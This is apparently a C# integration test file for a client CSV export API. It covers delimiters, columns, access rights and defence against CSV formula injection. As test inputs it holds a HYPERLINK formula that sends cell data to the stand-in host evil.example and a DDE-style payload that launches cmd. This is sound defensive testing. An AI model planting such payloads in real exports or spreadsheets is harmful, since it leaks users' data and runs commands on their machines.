using System.Globalization;
using System.Text;
using CsvHelper;
using CsvHelper.Configuration;
using Realtime.Testing;

namespace Realtime.Api.Tests.Clients;

/// <summary><c>GET /api/clients/export</c>: CSV with the chosen delimiter and columns, safe for spreadsheet programs.</summary>
[Collection(ApiCollection.Name)]
public sealed class ClientExportEndpointTests(ApiFixture api)
{
    private const string Attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    private sealed record Exported(HttpResponseMessage Response, byte[] Body)
    {
        public string Text => Encoding.UTF8.GetString(Body, 3, Body.Length - 3);

        /// <summary>The rows as a CSV reader gets them back, header first.</summary>
        public List<string[]> Rows(char delimiter)
        {
            using var reader = new StringReader(Text);
            using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture)
            {
                Delimiter = delimiter.ToString(),
                HasHeaderRecord = false,
                BadDataFound = context => throw new InvalidDataException($"Bad CSV: {context.RawRecord}"),
            });
            var rows = new List<string[]>();
            while (csv.Read()) rows.Add(csv.Parser.Record!);
            return rows;
        }
    }

    private static async Task<Exported> Export(HttpClient staff, string query)
    {
        var response = await staff.GetAsync($"/api/clients/export?{query}");
        var body = await response.Content.ReadAsByteArrayAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {Encoding.UTF8.GetString(body)}");
        return new Exported(response, body);
    }

    [Theory]
    [InlineData(",", ',')]
    [InlineData(";", ';')]
    [InlineData("%09", '\t')]
    [InlineData("|", '|')]
    public async Task The_csv_reads_back_with_each_delimiter_and_formulas_are_neutralised(string delimiterParameter, char delimiter)
    {
        var tenant = await api.NewTenant();
        var location = await tenant.Location();
        var staff = await tenant.Resource(location);
        var ewa = await Clients.Create(tenant.Owner, "Ewa", "Nowak", "ewa@example.pl", "+48 600 100 200", "Likes; commas, \"quotes\" | pipes\tand tabs");
        var attacker = await Clients.Create(tenant.Owner, "@SUM(1+1)*cmd|' /C calc'!A0", "-Attacker", "attacker@example.com", note: Attack);
        var ona = await Clients.Create(tenant.Owner, "Ona", "Kazlauskienė", "ona@example.lt", note: " Line one\nline two\r\nline three ", language: "lt");
        var booked = Local(3, 10);
        await Clients.Book(tenant, location, staff, booked, ona);

        var bookedText = booked.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);
        var exported = await Eventually.Value(
            () => Export(tenant.Owner, $"delimiter={delimiterParameter}&columns=id,firstName,lastName,email,phone,note,language,blacklisted,lastAppointmentAt"),
            e => e.Text.Contains(bookedText, StringComparison.Ordinal), "the booking reaches the client list");

        Assert.Equal("text/csv", exported.Response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", exported.Response.Content.Headers.ContentType?.CharSet);
        Assert.Equal([0xEF, 0xBB, 0xBF], exported.Body.Take(3));
        Assert.StartsWith("clients-", exported.Response.Content.Headers.ContentDisposition?.FileNameStar ?? exported.Response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));

        var rows = exported.Rows(delimiter);
        Assert.Equal(["id", "firstName", "lastName", "email", "phone", "note", "language", "blacklisted", "lastAppointmentAt"], rows[0]);
        Assert.True(rows.Count == 4, exported.Text);
        // In name order: Kazlauskienė, Nowak, then "-Attacker" (a folded '-' sorts before letters).
        var byId = rows.Skip(1).ToDictionary(r => Guid.Parse(r[0]));
        Assert.Equal([attacker, ona, ewa], rows.Skip(1).Select(r => Guid.Parse(r[0])));
        Assert.Equal(
            [ewa.ToString(), "Ewa", "Nowak", "ewa@example.pl", "'+48 600 100 200", "Likes; commas, \"quotes\" | pipes\tand tabs", "pl", "false", ""],
            byId[ewa]);
        Assert.Equal(
            [attacker.ToString(), "'@SUM(1+1)*cmd|' /C calc'!A0", "'-Attacker", "attacker@example.com", "", "'" + Attack, "pl", "false", ""],
            byId[attacker]);
        Assert.Equal(
            [ona.ToString(), "Ona", "Kazlauskienė", "ona@example.lt", "", " Line one\nline two\r\nline three ", "lt", "false", bookedText],
            byId[ona]);
        // No cell a spreadsheet would read starts with a formula character.
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"unsafe cell: {cell}"));

        // On the location's clock when asked: the date a front desk there reads.
        var inWarsaw = (await Export(tenant.Owner, $"delimiter={delimiterParameter}&columns=id,lastAppointmentAt&timeZone=Europe/Warsaw")).Rows(delimiter);
        var warsaw = TimeZoneInfo.FindSystemTimeZoneById("Europe/Warsaw");
        Assert.Equal(
            TimeZoneInfo.ConvertTime(booked, warsaw).ToString("yyyy-MM-dd'T'HH:mm:sszzz", CultureInfo.InvariantCulture),
            inWarsaw.Single(r => r[0] == ona.ToString())[1]);
    }

    [Fact]
    public async Task The_columns_are_those_chosen_in_the_order_chosen_and_the_list_columns_without_a_choice()
    {
        var tenant = await api.NewTenant();
        var id = await Clients.Create(tenant.Owner, "Lucía", "García", "lucia@example.es", "600 000 000", "VIP", "es");
        await Send(tenant.Owner, HttpMethod.Put, $"/api/clients/{id}", new
        {
            firstName = "Lucía", lastName = "García", email = "lucia@example.es", phone = "600 000 000", note = "VIP", language = "es",
            gender = "female", birthDate = "1990-05-17",
        }, HttpStatusCode.OK);
        await Send(tenant.Owner, HttpMethod.Post, $"/api/clients/{id}/blacklist", new { reason = "No-shows" }, HttpStatusCode.OK);

        var chosen = (await Export(tenant.Owner, "delimiter=;&columns=birthDate,email,gender,blacklisted,firstName")).Rows(';');
        Assert.Equal([["birthDate", "email", "gender", "blacklisted", "firstName"], ["1990-05-17", "lucia@example.es", "female", "true", "Lucía"]], chosen);

        var byDefault = (await Export(tenant.Owner, "")).Rows(',');
        Assert.Equal([["firstName", "lastName", "email", "phone", "note", "lastAppointmentAt"], ["Lucía", "García", "lucia@example.es", "600 000 000", "VIP", ""]], byDefault);
    }

    [Fact]
    public async Task The_export_holds_every_matching_client_not_just_a_page_in_the_order_asked()
    {
        var tenant = await api.NewTenant();
        var created = new List<Guid>();
        for (var i = 0; i < 60; i++)
        {
            created.Add(await Clients.Create(tenant.Owner, $"Client{i:D2}", i % 2 == 0 ? "Nowak" : "Kowalski", phone: $"600 100 {i:D3}"));
        }

        var all = (await Export(tenant.Owner, "columns=id,lastName")).Rows(',').Skip(1).ToArray();
        Assert.Equal(60, all.Length);
        Assert.Equal(created.Order(), all.Select(r => Guid.Parse(r[0])).Order());
        Assert.Equal(await Clients.ListedIds(tenant.Owner, "pageSize=500"), all.Select(r => Guid.Parse(r[0])));

        var nowaks = (await Export(tenant.Owner, "columns=id,lastName&search=NOWAK&sort=-name")).Rows(',').Skip(1).ToArray();
        Assert.Equal(30, nowaks.Length);
        Assert.All(nowaks, r => Assert.Equal("Nowak", r[1]));
        Assert.Equal(await Clients.ListedIds(tenant.Owner, "pageSize=500&search=nowak&sort=-name"), nowaks.Select(r => Guid.Parse(r[0])));
    }

    [Theory]
    [InlineData("delimiter=:", "delimiter")]
    [InlineData("delimiter=%20", "delimiter")]
    [InlineData("columns=firstName,password", "columns")]
    [InlineData("columns=email,email", "columns")]
    [InlineData("sort=age", "sort")]
    [InlineData("timeZone=Mars/Olympus", "timeZone")]
    public async Task Bad_export_parameters_are_refused_on_the_parameter(string query, string field)
    {
        var tenant = await api.NewTenant();

        await ProblemAssert.Is(await tenant.Owner.GetAsync($"/api/clients/export?{query}"), HttpStatusCode.BadRequest, "validation_failed", field);
    }

    [Fact]
    public async Task Only_owners_and_admins_may_export()
    {
        var tenant = await api.NewTenant();
        await Clients.Create(tenant.Owner, "Ewa", "Nowak");

        await ProblemAssert.Is(await (await tenant.KeyClient("frontDesk")).GetAsync("/api/clients/export"), HttpStatusCode.Forbidden, "forbidden");
        Assert.Equal(2, (await Export(await tenant.KeyClient("admin"), "")).Rows(',').Count);
        Assert.Equal(2, (await Export(tenant.Owner, "")).Rows(',').Count);
    }
}
